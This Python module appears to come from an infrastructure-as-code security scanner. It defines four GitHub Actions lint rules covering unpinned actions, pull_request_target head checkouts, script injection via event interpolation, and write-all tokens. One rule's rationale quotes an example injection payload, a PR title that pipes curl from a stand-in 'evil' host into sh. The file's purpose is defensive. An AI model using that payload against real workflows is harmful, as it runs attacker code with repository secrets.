"""GitHub Actions workflows: pinned actions, safe pull_request_target, no script injection,
no write-all tokens."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Any

from gate.checks.iac.interface import (
    AttrPath,
    Outcome,
    Practice,
    Resource,
    Rule,
    Unit,
    Violation,
)
from gate.checks.iac.rules.base import on
from gate.checks.iac.values import as_list
from gate.findings import Severity

__all__ = ["EventInterpolation", "PullRequestTargetCheckout", "UnpinnedAction",
           "WriteAllPermissions", "jobs", "steps"]

_WORKFLOW = on(gha=["workflow"])
_SHA = re.compile(r"^[0-9a-f]{40}$")
_FIRST_PARTY = ("actions/", "github/")
_EVENT_EXPR = re.compile(r"\$\{\{[^}]*?\b(github\.event\.[A-Za-z0-9_.\-\[\]'\"*]+|github\.head_ref)"
                         r"[^}]*\}\}")
_SAFE_SUFFIX = (".number", ".id", ".sha", ".run_id", ".run_number", ".created_at",
                ".updated_at")
_PR_HEAD = re.compile(r"github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|"
                      r"refs/pull/|github\.event\.workflow_run\.head_")


def jobs(resource: Resource) -> Iterator[tuple[str, Mapping[str, Any]]]:
    """(job id, job) pairs of a workflow."""
    raw = resource.properties.get("jobs")
    if isinstance(raw, Mapping):
        for name, job in raw.items():
            if isinstance(job, Mapping):
                yield str(name), job


def steps(resource: Resource) -> Iterator[tuple[str, int, Mapping[str, Any], AttrPath]]:
    """(job id, index, step, path) for every step of every job."""
    for name, job in jobs(resource):
        for i, step in enumerate(as_list(job.get("steps"))):
            if isinstance(step, Mapping):
                yield name, i, step, ("jobs", name, "steps", i)


def _triggers(resource: Resource) -> set[str]:
    raw = resource.properties.get("on", resource.properties.get("true"))
    if isinstance(raw, str):
        return {raw}
    if isinstance(raw, Mapping):
        return {str(k) for k in raw}
    return {str(t) for t in as_list(raw)}


class UnpinnedAction(Rule):
    """Third-party actions and reusable workflows must be pinned to a full commit SHA."""

    id = "GATE-GHA-001"
    title = "Third-party action not pinned to a commit SHA"
    severity = Severity.MEDIUM
    practice = Practice.PIPELINE_HYGIENE
    rationale = "A tag can be moved: whoever controls the action's repo controls your pipeline."
    fix = "Pin to the full 40-character SHA (uses: owner/action@<sha> # v1.2.3)."
    resource_types = _WORKFLOW

    def evaluate(self, resource: Resource, unit: Unit) -> Iterator[Outcome]:
        uses: list[tuple[str, str, AttrPath]] = []
        for name, job in jobs(resource):
            if isinstance(job.get("uses"), str):
                uses.append((name, job["uses"], ("jobs", name, "uses")))
        for name, _i, step, path in steps(resource):
            if isinstance(step.get("uses"), str):
                uses.append((name, step["uses"], (*path, "uses")))
        for job_name, ref, at in uses:
            if ref.startswith("./") or ref.startswith(_FIRST_PARTY):
                continue
            if ref.startswith("docker://"):
                if "@sha256:" not in ref:
                    yield Violation(f"runs {ref} without a digest in job {job_name}", at,
                                    key=f"{job_name}:{ref}")
                continue
            version = ref.rsplit("@", 1)[1] if "@" in ref else ""
            if not _SHA.match(version):
                yield Violation(f"uses {ref} not pinned to a commit SHA in job {job_name}", at,
                                key=f"{job_name}:{ref}")


class PullRequestTargetCheckout(Rule):
    """``pull_request_target`` runs with secrets; checking out the PR head runs untrusted code."""

    id = "GATE-GHA-002"
    title = "pull_request_target workflow checks out the PR head"
    severity = Severity.CRITICAL
    practice = Practice.PIPELINE_HYGIENE
    rationale = "Fork code then runs with a write token and secrets (a 'pwn request')."
    fix = "Use pull_request for untrusted code, or never check out/build the head in this workflow."
    resource_types = _WORKFLOW

    def evaluate(self, resource: Resource, unit: Unit) -> Iterator[Outcome]:
        if not {"pull_request_target", "workflow_run"} & _triggers(resource):
            return
        for job, _i, step, path in steps(resource):
            uses = step.get("uses")
            options = step.get("with")
            ref = options.get("ref") if isinstance(options, Mapping) else None
            if isinstance(uses, str) and uses.startswith("actions/checkout") \
                    and isinstance(ref, str) and _PR_HEAD.search(ref):
                yield Violation(f"checks out the pull request head ({ref}) in job {job}",
                                (*path, "with", "ref"), key=job)
            run = step.get("run")
            if isinstance(run, str) and re.search(r"\bgh pr checkout\b|git fetch .*refs/pull/",
                                                  run):
                yield Violation(f"checks out the pull request head in a run step of job {job}",
                                (*path, "run"), key=f"{job}:run")


class EventInterpolation(Rule):
    """``${{ github.event.* }}`` in ``run:`` is expanded into the script before the shell runs."""

    id = "GATE-GHA-003"
    title = "Untrusted event data interpolated into a run script"
    severity = Severity.HIGH
    practice = Practice.PIPELINE_HYGIENE
    rationale = "A PR title like `\"; curl evil | sh #` becomes shell code: script injection."
    fix = "Pass the value through env: (env: TITLE: ${{ github.event.pull_request.title }}) "\
          "and use \"$TITLE\"."
    aliases = ("CKV_GHA_2",)
    resource_types = _WORKFLOW

    def evaluate(self, resource: Resource, unit: Unit) -> Iterator[Outcome]:
        for job, _i, step, path in steps(resource):
            run = step.get("run")
            if not isinstance(run, str):
                continue
            for match in _EVENT_EXPR.finditer(run):
                expr = match.group(1)
                if not expr.endswith(_SAFE_SUFFIX):
                    yield Violation(f"interpolates ${{{{ {expr} }}}} into a run script in "
                                    f"job {job}", (*path, "run"), key=f"{job}:{expr}")
                    break


class WriteAllPermissions(Rule):
    """The workflow token must not get every write permission."""

    id = "GATE-GHA-004"
    title = "Workflow grants write-all permissions"
    severity = Severity.MEDIUM
    practice = Practice.PIPELINE_HYGIENE
    rationale = "A write-all token lets any compromised step push code, releases and packages."
    fix = "Set permissions to the minimum (contents: read, plus only the writes a job needs)."
    aliases = ("CKV2_GHA_1",)
    resource_types = _WORKFLOW

    def evaluate(self, resource: Resource, unit: Unit) -> Iterator[Outcome]:
        if resource.properties.get("permissions") == "write-all":
            yield Violation("grants write-all permissions to every job", ("permissions",),
                            key="workflow")
        for name, job in jobs(resource):
            if job.get("permissions") == "write-all":
                yield Violation(f"grants write-all permissions to job {name}",
                                ("jobs", name, "permissions"), key=name)
